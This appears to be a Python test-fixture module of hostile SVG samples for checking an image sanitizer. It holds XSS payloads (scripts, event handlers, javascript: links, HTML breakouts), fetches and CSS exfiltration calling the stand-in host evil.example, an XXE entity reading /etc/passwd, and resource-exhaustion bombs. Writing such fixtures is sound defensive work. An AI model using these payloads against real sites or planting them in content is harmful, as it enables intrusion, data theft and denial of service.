"""Pictures that want more than to be looked at.

Each tries to run a script (it would set `window.fired`), to ask another host for something (`evil.example`), to lead a visitor there, to touch
the page around it, or to grow without end. By name, so that a test says which one got through.
"""

import base64

GIF = "R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7"
FIRE = "window.fired=1"
EVIL = "https://evil.example/"
_SVG = base64.b64encode(f'<svg xmlns="http://www.w3.org/2000/svg" onload="{FIRE}"/>'.encode()).decode()
_HTML = base64.b64encode(f"<script>{FIRE}</script>".encode()).decode()
_SPACES = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" xmlns:h="http://www.w3.org/1999/xhtml"'


def _in(inside: str, more: str = "") -> str:
    return f'<svg {_SPACES} viewBox="0 0 100 100" {more}>{inside}<rect id="kept" width="9" height="9"/></svg>'


def _many(tag: str, name: str, value: str, times: int) -> str:
    return f'<{tag} {name}="{value}"/>' * times


def _patterns(name: str, value: str) -> str:
    """Patterns filled with patterns filled with patterns."""
    return "".join(
        f'<pattern id="p{n + 1}" width="1" height="1">{_many("rect", name, value.format(n), 20)}</pattern>'
        for n in range(9)
    )


def _tower(levels: int) -> str:
    """Ten copies of ten copies of ten copies."""
    floors = (f'<g id="n{level + 1}">{_many("use", "href", f"#n{level}", 10)}</g>' for level in range(levels))
    return '<g id="n0"><rect width="1" height="1"/></g>' + "".join(floors)


SAMPLES: dict[str, str] = {
    # scripts and handlers
    "script": _in(f"<script>{FIRE}</script>"),
    "script-elsewhere": _in(f'<script href="{EVIL}x.js"/><script xlink:href="{EVIL}x.js"/>'),
    "script-in-cdata": _in(f"<script><![CDATA[{FIRE}]]></script>"),
    "script-of-html": _in(f"<h:script>{FIRE}</h:script>"),
    "script-with-a-prefix": f'<s:svg xmlns:s="http://www.w3.org/2000/svg"><s:script>{FIRE}</s:script><s:rect id="kept"/></s:svg>',
    "script-in-capitals": _in(f"<SCRIPT>{FIRE}</SCRIPT><sCript>{FIRE}</sCript>"),
    "script-in-defs": _in(f"<defs><script>{FIRE}</script></defs>"),
    "onload": _in("", f'onload="{FIRE}"'),
    "onload-in-capitals": _in(f'<g ONLOAD="{FIRE}" OnLoad="{FIRE}"/>'),
    "onclick": _in(f'<rect width="100" height="100" onclick="{FIRE}" onmouseover="{FIRE}" onfocus="{FIRE}" tabindex="0"/>'),
    "onerror-on-an-image": _in(f'<image href="x" onerror="{FIRE}"/>'),
    "handler-with-a-namespace": _in(f'<g xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load" ev:onload="{FIRE}"/>'),
    "listener": _in(f'<handler type="text/ecmascript" ev="load">{FIRE}</handler><listener event="load" handler="#x"/>'),
    # what only an HTML parser makes dangerous
    "foreign-object": _in(f'<foreignObject width="99" height="99"><h:img src="x" onerror="{FIRE}"/></foreignObject>'),
    "foreign-object-iframe": _in(f'<foreignObject><h:iframe srcdoc="&lt;script>parent.{FIRE}&lt;/script>"/></foreignObject>'),
    "foreign-object-form": _in(f'<foreignObject><h:form action="{EVIL}"><h:input autofocus="" onfocus="{FIRE}"/></h:form></foreignObject>'),
    "html-in-title": _in(f"<g><title>&lt;img src=x onerror={FIRE}&gt;</title></g>"),
    "html-in-title-as-elements": _in(f'<g><title><h:img src="x" onerror="{FIRE}"/></title></g>'),
    "html-in-desc": _in(f"<g><desc>&lt;/desc>&lt;script>{FIRE}&lt;/script></desc></g>"),
    "end-of-style": _in(f'<style>&lt;/style>&lt;img src=x onerror="{FIRE}"></style>'),
    "end-of-style-in-an-id": _in(f'<style><path id="&lt;/style>&lt;img src=x onerror={FIRE}>"/></style>'),
    "end-of-svg-in-text": _in(f"<text>&lt;/text>&lt;/svg>&lt;script>{FIRE}&lt;/script></text>"),
    "end-of-svg-in-cdata": _in(f"<text><![CDATA[</text></svg><script>{FIRE}</script>]]></text>"),
    "quotes-in-an-id": _in(f'<g id="x&quot;>&lt;img src=x onerror={FIRE}>"/>'),
    "quotes-in-a-path": _in(f'<path d="M0 0&quot; onload=&quot;{FIRE}"/>'),
    "break-out-elements": _in(f'<p><b><table><img src="x" onerror="{FIRE}"/></table></b></p><font color="red" face="{FIRE}"/>'),
    "noscript-and-xmp": _in(f"<noscript>&lt;img src=x onerror={FIRE}></noscript><xmp>&lt;script>{FIRE}</xmp><plaintext/>"),
    "embedded": _in(f'<iframe src="javascript:{FIRE}"/><embed src="{EVIL}"/><object data="{EVIL}"/><video src="{EVIL}"/><audio src="{EVIL}"/>'),
    "maths": _in(f'<math xmlns="http://www.w3.org/1998/Math/MathML"><mtext><h:img src="x" onerror="{FIRE}"/></mtext></math>'),
    "comment": _in(f"<!-- ><img src=x onerror={FIRE}> -->"),
    "instruction": f'<?xml version="1.0"?><?xml-stylesheet type="text/css" href="{EVIL}x.css"?>{_in("")}',
    "transformation": '<?xml-stylesheet type="text/xsl" href="#t"?>'
    + _in('<xsl:stylesheet id="t" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"/>'),
    # links
    "link": _in(f'<a href="{EVIL}"><rect width="100" height="100"/></a>'),
    "link-to-script": _in(f'<a xlink:href="javascript:{FIRE}"><rect width="100" height="100"/></a>'),
    "link-to-script-in-disguise": _in(f'<a href=" java&#9;scr&#10;ipt&#58;{FIRE}"><rect width="100" height="100"/></a>'),
    "link-by-base": _in(f'<a xml:base="javascript:{FIRE}//" href="#x"><rect width="100" height="100"/></a>', f'xml:base="{EVIL}"'),
    "link-in-text": _in(f'<text><a href="javascript:{FIRE}">woord</a></text>'),
    "animated-link": _in(f'<a id="l"><animate attributeName="href" values="javascript:{FIRE}"/><rect width="100" height="100"/></a>'),
    "set-link": _in(f'<a><set attributeName="xlink:href" to="javascript:{FIRE}"/><rect width="100" height="100"/></a>'),
    "animated-from-afar": _in(f'<rect id="r"/><animate href="#r" attributeName="href" from="javascript:{FIRE}" to="x" begin="0s"/>'),
    "animation-handler": _in(f'<animate onbegin="{FIRE}" attributeName="x" dur="1s"/><animateTransform onend="{FIRE}" attributeName="x" dur=".1s"/>'),
    "animated-motion": _in(f'<animateMotion onbegin="{FIRE}" dur="1s"><mpath href="{EVIL}#p"/></animateMotion>'),
    "discard": _in('<discard href="#kept" begin="0s"/>'),
    # what is fetched
    "image": _in(f'<image href="{EVIL}x.png" width="9" height="9"/><image xlink:href="//evil.example/x.png"/>'),
    "image-with-two-links": _in(f'<image href="data:image/gif;base64,{GIF}" xlink:href="{EVIL}x.png"/>'),
    "image-of-svg": _in(f'<image href="data:image/svg+xml;base64,{_SVG}" width="9" height="9"/>'),
    "image-of-html": _in(f'<image href="data:text/html;base64,{_HTML}"/><image href="data:image/png;base64,{_HTML}"/>'),
    "image-of-file": _in('<image href="file:///etc/passwd"/><image href="../../secret.png"/>'),
    "use-elsewhere": _in(f'<use href="{EVIL}x.svg#a"/><use xlink:href="x.svg#a"/>'),
    "use-of-data": _in(f'<use href="data:image/svg+xml;base64,{_SVG}#x"/>'),
    "filter-image": _in(f'<filter id="f"><feImage href="{EVIL}x.png"/><feImage xlink:href="{EVIL}x.svg#a"/></filter><rect width="9" height="9" filter="url(#f)"/>'),
    "gradient-elsewhere": _in(f'<linearGradient id="g" href="{EVIL}x.svg#g"/><pattern id="p" xlink:href="{EVIL}x.svg#p"/>'),
    "text-path-elsewhere": _in(f'<text><textPath href="{EVIL}x.svg#p">woord</textPath></text>'),
    "paint-elsewhere": _in(f'<rect fill="url({EVIL}x.svg#g)" stroke="url(\'{EVIL}x.svg#g\')" filter="url({EVIL}x.svg#f)" mask="url({EVIL}x.svg#m)"/>'),
    "paint-with-escapes": _in(f'<rect fill="u\\72l({EVIL}x)" stroke="\\75\\72\\6c({EVIL}x)" clip-path="URL({EVIL}x)"/>'),
    "paint-with-comments": _in(f'<rect style="fill:url/**/({EVIL}x);fill:/**/url({EVIL}y)"/>'),
    "cursor": _in(f'<rect width="100" height="100" cursor="url({EVIL}x.cur),auto" style="cursor:url({EVIL}y.cur),auto"/><cursor href="{EVIL}z"/>'),
    "style-attribute": _in(f'<rect style="background:url({EVIL}x);mask-image:url({EVIL}y);fill:image-set(&quot;{EVIL}z&quot; 1x)"/>'),
    "style-behaviour": _in(f'<rect style="behavior:url({EVIL}x.htc);-moz-binding:url({EVIL}x.xml#b);width:expression({FIRE})"/>'),
    "style-that-closes": _in(f'<rect style="fill:red}}body{{background:url({EVIL}x)"/>'),
    "colour-profile": _in(f'<color-profile href="{EVIL}x.icc"/><font-face-uri href="{EVIL}x.svg#f"/><tref href="{EVIL}x#t"/>'),
    # style sheets
    "import": _in(f'<style>@import "{EVIL}x.css"; @import url({EVIL}y.css); rect{{fill:red}}</style>'),
    "import-with-escapes": _in(f'<style>@\\69mport "{EVIL}x.css"; @IMPORT url(//evil.example/y.css);</style>'),
    "font": _in(f"<style>@font-face{{font-family:x;src:url({EVIL}x.woff)}} text{{font-family:x}}</style><text>a</text>"),
    "sheet-with-addresses": _in(f'<style>rect{{fill:url({EVIL}x#a);filter:url("{EVIL}x#f");cursor:url({EVIL}x)}}</style>'),
    "sheet-that-reads": _in(f"<style>input[value^=a]{{fill:url({EVIL}a)}} :root{{--x:url({EVIL}b)}} *{{fill:var(--x)}}</style>"),
    "sheet-of-the-page": _in("<style>body,.md-header,:root{display:none} *{position:fixed;z-index:99;inset:0}</style>"),
    "sheet-of-html": _in(f'<h:style>@import "{EVIL}x.css"</h:style><h:link rel="stylesheet" href="{EVIL}y.css"/>'),
    "namespace-rule": _in(f"<style>@namespace url({EVIL}); @media all{{rect{{fill:url({EVIL}x)}}}} @supports (x:y){{rect{{fill:url({EVIL}z)}}}}</style>"),
    # the page around it
    "over-the-page": _in('<rect width="9999" height="9999"/>', 'style="position:fixed;inset:0;width:100vw;height:100vh;z-index:99;overflow:visible" overflow="visible"'),
    "names-of-the-theme": _in(f'<text id="__config">{{"base":"{EVIL}"}}</text><g id="__search"/><g id="taalkompas-spot-1"/><g id="document$"/>', 'class="md-header md-search"'),
    "data-of-the-theme": _in('<g data-md-component="search" data-promise="x" role="button" aria-label="x" tabindex="0" contenteditable="true" autofocus=""/>'),
    # what grows
    "use-tower": _in(_tower(9)),
    "use-of-itself": _in('<g id="a"><use href="#a"/></g><g id="b"><use href="#c"/></g><g id="c"><use href="#b"/></g>'),
    "pattern-tower": _in(_patterns("fill", "url(#p{})") + '<rect fill="url(#p9)"/>'),
    "tower-by-sheet": _in(
        "<style>" + "".join(f".c{n}{{fill:url(#p{n})}}" for n in range(10)) + "</style>" + _patterns("class", "c{}") + '<rect class="c9"/>'
    ),
    "deep": _in("<g>" * 5_000 + f"<script>{FIRE}</script>" + "</g>" * 5_000),
    "long-chain": _in("".join(f'<g id="c{n}"><use href="#c{n + 1}"/></g>' for n in range(3_000))),
    "paints": _in(
        "".join(f'<path fill="{"rgb(1,2,3) " * 40}{n}" style="fill:{"rgb(1,2,3) " * 40}{n}"/>' for n in range(100))
        + _many("path", "fill", "rgb(1,2,3)", 500)
    ),
    "references-in-a-path": _in(f'<path d="{"url(#" * 5_000}"/>'),
    "noise": _in('<filter id="f"><feTurbulence numOctaves="1000000000"/></filter><rect filter="url(#f)"/>'),
    "nested-brackets": _in(f'<rect fill="{"(" * 5_000}" style="fill:{"calc(" * 1_000}"/><style>{"rect{" * 5_000}</style>'),
    "descendants": _in("<style>" + "g g g g g g g g{fill:red}" * 4_000 + "</style>" + ("<g>" * 90 + "</g>" * 90) * 300),
    "selectors": _in("<style>" + "g g g g g g g x," * 2_000 + "y{fill:red}</style>" + "<g>" * 60 + "<x/>" + "</g>" * 60),
}  # fmt: skip

DEFINITIONS: dict[str, str] = {
    "billion-laughs": '<!DOCTYPE svg [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;">]><svg><text>&c;</text></svg>',
    "outside-entity": '<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg><text>&x;</text></svg>',
    "outside-parameter": f'<!DOCTYPE svg [<!ENTITY % x SYSTEM "{EVIL}x.dtd">%x;]><svg/>',
    "default-attribute": f'<!DOCTYPE svg [<!ATTLIST svg onload CDATA "{FIRE}">]><svg/>',
    "not-svg": f"<html><script>{FIRE}</script></html>",
    "nothing": "",
    "unfinished": "<svg><g>",
}
"""Pictures that are refused as a whole."""
